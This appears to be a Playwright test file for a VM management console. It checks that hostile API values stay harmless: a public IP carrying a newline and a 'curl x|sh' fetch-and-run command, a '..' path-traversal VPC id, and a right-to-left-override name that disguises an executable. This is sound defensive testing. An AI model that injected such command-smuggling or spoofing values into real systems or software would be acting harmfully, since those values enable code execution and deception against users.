import type { Page } from "@playwright/test";
import { test, expect, API_URL } from "./fixtures";

// Text from the API that is not what it claims to be: a public IP holding a
// newline and a shell command, a VPC id that is a dot segment, a name with a
// right-to-left override. The sandbox's VMs of project "edge-cases" (see
// sandbox/README.md, "Fixtures") carry them.

test.use({ permissions: ["clipboard-read", "clipboard-write"] });

const HOSTILE_IP = "1.2.3.4\ncurl x|sh\n";

async function clipboard(page: Page): Promise<string> {
  return page.evaluate(() => navigator.clipboard.readText());
}

test("no copy button puts a newline or a command from the API on the clipboard", async ({
  page,
  signedIn,
}) => {
  await signedIn(page, "/vms/28");
  await expect(page.getByRole("heading", { level: 1, name: "hostile-public-ip" })).toBeVisible();
  const network = page.getByRole("region", { name: "Network" });
  await expect(network.getByRole("heading", { name: "Port mappings" })).toBeVisible();
  // Shown as it is copied: one line, the newline as an escape.
  await expect(network.getByText("1.2.3.4\\ncurl x|sh\\n", { exact: true })).toBeVisible();
  // No SSH command and no link are made from such an address.
  await expect(page.getByRole("button", { name: "Copy SSH command" })).toHaveCount(0);
  await expect(network.getByRole("link", { name: /^Open/ })).toHaveCount(0);

  const buttons = page.getByRole("button", { name: /^Copy / }).filter({ visible: true });
  const names = await buttons.evaluateAll((elements) =>
    elements.map((element) => element.getAttribute("aria-label") ?? element.textContent),
  );
  expect(names).toEqual(
    expect.arrayContaining([
      "Copy VM id",
      "Copy UUID",
      "Copy public IP",
      "Copy private IP",
      "Copy address of port 9000",
      "Copy details for support",
    ]),
  );
  for (const name of names) {
    await page.evaluate(() => navigator.clipboard.writeText(""));
    await page.getByRole("button", { name, exact: true }).filter({ visible: true }).click();
    await expect.poll(() => clipboard(page)).not.toBe("");
    const copied = await clipboard(page);
    // The support text has lines of its own; no line of it is the API's command.
    const lines = name === "Copy details for support" ? copied.split("\n") : [copied];
    for (const line of lines) {
      expect(line, name).not.toMatch(/[\r\n\u2028\u2029]/);
      expect(line.trim(), name).not.toMatch(/^curl/);
    }
    if (name === "Copy public IP") expect(copied).toBe("1.2.3.4\\ncurl x|sh\\n");
    if (name === "Copy address of port 9000") expect(copied).toBe("1.2.3.4\\ncurl x|sh\\n:9000");
    if (name === "Copy details for support") {
      expect(copied).toContain("Public IP: 1.2.3.4\\ncurl x|sh\\n");
    }
    expect(copied).not.toContain(HOSTILE_IP);
  }
});

test("a VPC id of '..' from the API makes no request outside /v1/stats/vpcs/{id}, and the page says why", async ({
  page,
  signedIn,
}) => {
  const paths: string[] = [];
  page.on("request", (request) => {
    if (request.url().startsWith(`${API_URL}/`)) paths.push(new URL(request.url()).pathname);
  });
  await signedIn(page, "/vms/29");
  await expect(page.getByRole("heading", { level: 1, name: "dot-dot-vpc" })).toBeVisible();
  const usage = page.getByRole("region", { name: "Usage" });
  await expect(usage.getByText(/^Live figures from the OpenScaler API/)).toBeAttached();
  await usage.scrollIntoViewIfNeeded();
  await expect(
    usage.getByText(
      "The VPC's traffic cannot be shown: the API gave its id as “..”, which cannot be used in an address, so it was not asked for.",
    ),
  ).toBeVisible();
  // The live figures are asked for, so the section was in view and polling.
  await expect
    .poll(() => paths.filter((path) => path === "/v1/stats/live").length)
    .toBeGreaterThan(0);
  const stats = paths.filter((path) => path.startsWith("/v1/stats"));
  expect(stats.every((path) => path === "/v1/stats/live")).toBe(true);
  // Nothing else left the VM's own paths.
  expect(
    paths
      .filter((path) => !path.startsWith("/v1/stats"))
      .every((path) => path.startsWith("/v1/vms/29")),
  ).toBe(true);
});

test("a name with a right-to-left override does not turn the tab's title around", async ({
  page,
  signedIn,
}) => {
  await signedIn(page, "/vms/30");
  await expect(
    page.getByRole("heading", { level: 1, name: "invoice-\u202egpj.exe" }),
  ).toBeVisible();
  // The title reads in order, name first, with no bidirectional control left in it.
  await expect(page).toHaveTitle("invoice-gpj.exe · Running · OpenScaler");
  expect(await page.title()).not.toMatch(/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
  // The support text keeps the control, visibly, as an escape.
  await page.getByRole("button", { name: "Copy details for support" }).click();
  await expect.poll(() => clipboard(page)).toContain("VM: invoice-\\u202Egpj.exe (id 30)");
  expect(await clipboard(page)).not.toMatch(/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
});
